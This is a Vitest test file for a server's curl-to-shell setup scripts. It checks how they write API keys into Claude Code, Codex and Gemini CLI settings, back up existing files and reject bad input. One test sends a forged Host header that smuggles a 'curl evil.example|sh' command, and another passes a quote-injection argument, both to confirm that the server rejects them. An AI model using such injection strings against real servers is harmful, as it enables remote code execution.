// `curl …/setup.sh | sh` in a home of its own, against the server: what it writes, shows and leaves as it was.
import { spawn } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import * as oauth from 'oauth4webapi';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appAuthorizationApi } from '#shared/app-authorizations.ts';
import { oneEngine } from '#tests/support/engines.ts';
import type { TestClient } from '#tests/support/http-client.ts';
import { createTestApp, type TestApp } from '#tests/support/test-app.ts';

describe.each(oneEngine)('setup scripts on $kind', { concurrent: true }, (engine) => {
  let app: TestApp;
  let person: TestClient;
  beforeAll(async () => {
    app = await createTestApp(engine, { env: { BASE_PATH: '/ai' } });
    person = await app.as(await app.createUser());
  });
  afterAll(() => app.close());

  interface Run {
    status: number | null;
    shown: string;
  }

  /** Runs the script as a person does, and decides about the code that it shows. */
  async function setUp(home: string, words: string[], decision: 'allow' | 'refuse' = 'allow', tools?: string): Promise<Run> {
    // The clock of the test does not move, so waits need not last.
    const bin = path.join(home, '.bin');
    await mkdir(bin, { recursive: true });
    await writeFile(path.join(bin, 'sleep'), '#!/bin/sh\nexec /bin/sleep 0.02\n');
    await chmod(path.join(bin, 'sleep'), 0o755);
    const line = `curl -fsSL ${app.origin}/ai/setup.sh | sh -s -- ${words.join(' ')}`;
    const search = [bin, ...(tools === undefined ? [process.env['PATH']] : [tools])].join(':');
    const child = spawn('/bin/sh', ['-c', line], { env: { HOME: home, PATH: search } });
    let shown = '';
    let decided: Promise<unknown> | undefined;
    child.stdout.on('data', (chunk: Buffer) => (shown += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => {
      shown += chunk.toString();
      const code = /shows this code:\s+([A-Z-]{9})/.exec(shown)?.[1];
      if (code === undefined) return;
      const grant = decision === 'allow' ? { way: 'new', limits: { name: '', remain_quota: 500_000 } } : undefined;
      decided ??= person.post(`/ai${appAuthorizationApi.decideDevice.path}`, {
        user_code: code,
        ...(grant === undefined ? {} : { grant }),
      });
    });
    const status = await new Promise<number | null>((resolve) => child.on('close', resolve));
    await decided;
    return { status, shown };
  }

  async function inHome(work: (home: string) => Promise<void>): Promise<void> {
    const home = await mkdtemp(path.join(tmpdir(), 'tidegate-home-'));
    try {
      await work(home);
    } finally {
      await rm(home, { recursive: true, force: true });
    }
  }

  async function file(home: string, name: string, text?: string): Promise<string> {
    const place = path.join(home, name);
    if (text !== undefined) {
      await mkdir(path.dirname(place), { recursive: true });
      await writeFile(place, text);
    }
    return readFile(place, 'utf8');
  }

  const keyIn = (text: string) => /sk-\w{48}/.exec(text)?.[0] ?? 'none';
  const modelsWith = async (key: string) =>
    (await fetch(`${app.origin}/ai/v1/models`, { headers: { authorization: `Bearer ${key}` } })).status;

  it('writes the settings of Claude Code, retains what is there, copies it, and shows no key', () =>
    inHome(async (home) => {
      const before = '{\n  "theme": "dark",\n  "env": { "MINE": "1", "ANTHROPIC_BASE_URL": "https://old.example" }\n}\n';
      await file(home, '.claude/settings.json', before);
      const { status, shown } = await setUp(home, ['claude-code', '--model', 'claude-opus-4', '--small-model', 'claude-haiku-4']);
      expect({ status, shown }).toMatchObject({ status: 0 });
      const text = await file(home, '.claude/settings.json');
      const key = keyIn(text);
      expect(JSON.parse(text)).toEqual({
        theme: 'dark',
        env: {
          MINE: '1',
          ANTHROPIC_BASE_URL: `${app.origin}/ai`,
          ANTHROPIC_AUTH_TOKEN: key,
          ANTHROPIC_MODEL: 'claude-opus-4',
          ANTHROPIC_DEFAULT_SONNET_MODEL: 'claude-opus-4',
          ANTHROPIC_DEFAULT_OPUS_MODEL: 'claude-opus-4',
          ANTHROPIC_DEFAULT_HAIKU_MODEL: 'claude-haiku-4',
        },
      });
      expect(await modelsWith(key)).toBe(200);
      expect(shown).toContain('"MINE": "1"');
      expect(shown).toContain(`${app.origin}/ai/device?user_code=`);
      expect(shown).not.toContain(key);
      const copies = (await readdir(path.join(home, '.claude'))).filter((name) => name.includes('.before-tidegate-'));
      expect(copies).toHaveLength(1);
      expect(await file(home, `.claude/${copies[0]}`)).toBe(before);
      expect((await stat(path.join(home, '.claude/settings.json'))).mode & 0o077).toBe(0);
    }));

  it('writes the settings of Codex twice, and they are there once', () =>
    inHome(async (home) => {
      const before = 'model = "gpt-5"\nmodel_provider = "openai"\napproval_policy = "on-request"\n\n[tools]\nmodel_provider = "stays"\n';
      await file(home, '.codex/config.toml', before);
      expect(await setUp(home, ['codex'])).toMatchObject({ status: 0 });
      const first = keyIn(await file(home, '.codex/config.toml'));
      expect(await setUp(home, ['codex', '--model', 'gpt-5.1'])).toMatchObject({ status: 0 });
      const text = await file(home, '.codex/config.toml');
      expect(text).toBe(`# >>> tidegate
model_provider = "tidegate"
model = "gpt-5.1"
# <<< tidegate
# model = "gpt-5"
# model_provider = "openai"
approval_policy = "on-request"

[tools]
model_provider = "stays"
# >>> tidegate
[model_providers.tidegate]
name = "Tidegate"
base_url = "${app.origin}/ai/v1"
wire_api = "responses"
experimental_bearer_token = "${keyIn(text)}"
# <<< tidegate
`);
      expect(keyIn(text)).not.toBe(first);
      expect((await readdir(path.join(home, '.codex'))).filter((name) => name.includes('before'))).toHaveLength(2);
    }));

  it('writes the settings of Gemini CLI and a file of exports', () =>
    inHome(async (home) => {
      await file(home, '.gemini/.env', 'GEMINI_API_KEY=old\nOTHER=1\n');
      expect(await setUp(home, ['gemini-cli'])).toMatchObject({ status: 0 });
      const text = await file(home, '.gemini/.env');
      expect(text).toBe(`OTHER=1\nGOOGLE_GEMINI_BASE_URL=${app.origin}/ai\nGEMINI_API_KEY=${keyIn(text)}\n`);
      expect(JSON.parse(await file(home, '.gemini/settings.json'))).toEqual({ security: { auth: { selectedType: 'gemini-api-key' } } });
      expect(await setUp(home, ['env'])).toMatchObject({ status: 0 });
      expect(await file(home, '.config/tidegate/env')).toContain(`export OPENAI_BASE_URL='${app.origin}/ai/v1'`);
    }));

  it('writes nothing if the key is refused, or if a file cannot be changed', () =>
    inHome(async (home) => {
      const refused = await setUp(home, ['claude-code'], 'refuse');
      expect(refused).toMatchObject({ status: 1, shown: expect.stringContaining('you refused the key') });
      const broken = '{ // a comment\n}\n';
      await file(home, '.claude/settings.json', broken);
      const unread = await setUp(home, ['claude-code']);
      expect(unread).toMatchObject({ status: 1, shown: expect.stringContaining('not plain JSON') });
      expect(unread.shown).not.toContain('Open this page');
      expect(await file(home, '.claude/settings.json')).toBe(broken);
      expect(await readdir(path.join(home, '.claude'))).toEqual(['settings.json']);
      for (const words of [['nothing'], [], ['codex', '--model', `'x";y'`], ['codex', '--evil'], ['codex', 'env']]) {
        expect((await setUp(home, words)).status, words.join(' ')).toBe(1);
      }
      const dry = await setUp(home, ['codex', '--dry-run']);
      expect(dry).toMatchObject({ status: 0, shown: expect.stringContaining('experimental_bearer_token') });
      expect(await readdir(home)).not.toContain('.codex');
    }));

  it('an official client finds the server below its path, also from a page of another site', async () => {
    const issuer = new URL(`${app.origin}/ai`);
    const insecure = { [oauth.allowInsecureRequests]: true };
    const server = await oauth.processDiscoveryResponse(issuer, await oauth.discoveryRequest(issuer, { algorithm: 'oauth2', ...insecure }));
    expect(server).toMatchObject({ issuer: `${app.origin}/ai`, token_endpoint: `${app.origin}/ai/oauth/token` });
    for (const target of ['/ai/.well-known/oauth-authorization-server', '/.well-known/oauth-authorization-server/ai', '/ai/oauth/token']) {
      const response = await fetch(app.origin + target, { method: 'OPTIONS', headers: { origin: 'https://notes.example' } });
      expect(response.headers.get('access-control-allow-origin'), target).toBe('*');
    }
  });

  it('serves scripts with no foreign text in them', async () => {
    for (const name of ['setup.sh', 'setup.ps1']) {
      const response = await fetch(`${app.origin}/ai/${name}`);
      expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8');
      const text = await response.text();
      expect(text).toContain(`'${app.origin}/ai'`);
      expect(text).not.toContain('@ADDRESS@');
    }
    const forged = await app.anonymous().get('/ai/setup.sh', { headers: { host: "x';curl evil.example|sh;'" } });
    expect(String(forged.body)).not.toContain('evil.example');
  });
});
